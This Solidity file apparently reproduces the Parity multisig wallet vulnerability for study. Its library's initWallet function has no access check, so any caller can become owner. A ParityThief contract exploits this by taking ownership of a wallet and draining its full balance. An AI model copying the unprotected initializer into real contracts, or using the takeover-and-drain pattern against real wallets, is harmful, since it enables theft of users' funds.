// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// The code of many wallets, which call it on their own storage. Whoever calls `initWallet` becomes the owner, again and
/// again.
contract ParityWalletLibrary {
    // The stub's storage begins with the same words.
    uint256 public m_required;
    uint256 public m_numOwners;
    uint256 public m_dailyLimit;
    uint256 public m_spentToday;
    uint256 public m_lastDay;
    address[16] private m_owners;
    mapping(address => uint256) private m_ownerIndex;
    mapping(bytes32 => mapping(address => bool)) private m_confirmed;
    mapping(bytes32 => uint256) private m_count;

    event Confirmation(address owner, bytes32 operation);
    event OwnerChanged(address oldOwner, address newOwner);
    event OwnerAdded(address newOwner);
    event OwnerRemoved(address oldOwner);
    event RequirementChanged(uint256 newRequirement);
    event Deposit(address _from, uint256 value);
    event SingleTransact(address owner, uint256 value, address to, bytes data, address created);
    event MultiTransact(address owner, bytes32 operation, uint256 value, address to, bytes data, address created);
    event ConfirmationNeeded(bytes32 operation, address initiator, uint256 value, address to, bytes data);

    modifier onlyowner() {
        require(isOwner(msg.sender));
        _;
    }

    receive() external payable {
        if (msg.value > 0) emit Deposit(msg.sender, msg.value);
    }

    function initWallet(address[] calldata owners, uint256 required, uint256 daylimit) external {
        m_dailyLimit = daylimit;
        m_lastDay = block.timestamp / 1 days;
        m_numOwners = owners.length;
        for (uint256 i = 0; i < owners.length; i++) {
            m_owners[i] = owners[i];
            m_ownerIndex[owners[i]] = i + 1;
        }
        m_required = required;
    }

    function isOwner(address who) public view returns (bool) {
        return m_ownerIndex[who] > 0;
    }

    function execute(address to, uint256 value, bytes calldata data) external onlyowner returns (bytes32 operation) {
        if (m_lastDay < block.timestamp / 1 days) (m_spentToday, m_lastDay) = (0, block.timestamp / 1 days);
        if (m_spentToday + value <= m_dailyLimit) {
            m_spentToday += value;
            (bool ok,) = to.call{value: value}(data);
            require(ok);
            emit SingleTransact(msg.sender, value, to, data, address(0));
            return 0;
        }
        operation = keccak256(abi.encode(to, value, data, block.number));
        if (!confirmed(operation)) {
            emit ConfirmationNeeded(operation, msg.sender, value, to, data);
            return operation;
        }
        run(operation, to, value, data);
    }

    function confirm(address to, uint256 value, bytes calldata data, uint256 since) external onlyowner {
        bytes32 operation = keccak256(abi.encode(to, value, data, since));
        if (confirmed(operation)) run(operation, to, value, data);
    }

    function changeOwner(address from, address to) external onlyowner {
        if (!confirmed(keccak256(msg.data)) || isOwner(to)) return;
        uint256 index = m_ownerIndex[from];
        if (index == 0) return;
        m_owners[index - 1] = to;
        m_ownerIndex[from] = 0;
        m_ownerIndex[to] = index;
        emit OwnerChanged(from, to);
    }

    function confirmed(bytes32 operation) private returns (bool) {
        if (!m_confirmed[operation][msg.sender]) {
            m_confirmed[operation][msg.sender] = true;
            m_count[operation]++;
            emit Confirmation(msg.sender, operation);
        }
        if (m_count[operation] < m_required) return false;
        delete m_count[operation];
        return true;
    }

    function run(bytes32 operation, address to, uint256 value, bytes calldata data) private {
        (bool ok,) = to.call{value: value}(data);
        require(ok);
        emit MultiTransact(msg.sender, operation, value, to, data, address(0));
    }
}

contract ParityWallet {
    uint256[5] private words;
    address private immutable library_;

    event Deposit(address _from, uint256 value);

    constructor(address code, address[] memory owners, uint256 required, uint256 daylimit) {
        library_ = code;
        bytes memory data = abi.encodeWithSignature("initWallet(address[],uint256,uint256)", owners, required, daylimit);
        (bool ok,) = code.delegatecall(data);
        require(ok);
    }

    receive() external payable {
        if (msg.value > 0) emit Deposit(msg.sender, msg.value);
    }

    fallback() external payable {
        if (msg.value > 0) {
            emit Deposit(msg.sender, msg.value);
        } else if (msg.data.length > 0) {
            (bool ok, bytes memory out) = library_.delegatecall(msg.data);
            assembly {
                if iszero(ok) { revert(add(out, 32), mload(out)) }
                return(add(out, 32), mload(out))
            }
        }
    }
}

/// Makes a wallet its own and passes on what is in it.
contract ParityThief {
    function own(address wallet) external {
        address[] memory owners = new address[](1);
        owners[0] = address(this);
        ParityWalletLibrary(payable(wallet)).initWallet(owners, 1, type(uint256).max);
    }

    function empty(address wallet, address payee) external {
        ParityWalletLibrary(payable(wallet)).execute(payee, wallet.balance, "");
    }
}
